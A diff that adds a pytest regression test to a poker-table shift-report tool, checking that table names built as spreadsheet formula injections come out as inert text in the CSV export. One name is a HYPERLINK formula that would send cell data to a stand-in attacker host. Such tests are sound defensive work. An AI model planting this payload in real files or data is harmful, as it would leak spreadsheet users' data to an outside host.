@@ -68,3 +68,24 @@ def test_report_shift_chooses_by_time_and_refuses_an_unknown_table(capsys: pytes
     out, err = capsys.readouterr()
     assert out == "" and "pokertable report:" in err and "Nowhere" in err
     assert main(["report", "shift", "--from", "yesterday", "--db", url]) == 2
+
+
+def test_a_table_s_name_never_runs_as_a_formula_in_the_csv(capsys: pytest.CaptureFixture[str],
+                                                            tmp_path: Path) -> None:
+    """Attack (issue 34, "also found"): a table opened as ``=HYPERLINK(…)`` or ``@SUM(…)`` is a text in the CSV a
+    spreadsheet opens, written with a leading apostrophe; the figures stay numbers (a negative win too)."""
+    url = f"sqlite:///{tmp_path / 'tables.db'}"
+    app = PokerTables(env=environment(url))
+    ids = Ids("formula")
+    names = ('=HYPERLINK("http://attacker.example/?"&A1,"open")', "@SUM(A1:A9)", "+1+1")
+    try:
+        for table in names:
+            app.handle(OpenTable(ids(), table, ThbSettings(STANDARD_LIMITS[5])))
+            app.handle(OpenShift(ids(), table, {1: 10_000}), PIT)
+            app.handle(CloseShift(ids(), table, {1: 9_000}), PIT)  # a win of -1,000
+    finally:
+        app.close()
+    assert main(["report", "shift", "--format", "csv", "--db", url]) == 0
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert sorted(r["table"] for r in rows) == sorted("'" + name for name in names)
+    assert {r["win"] for r in rows} == {"-1000"}
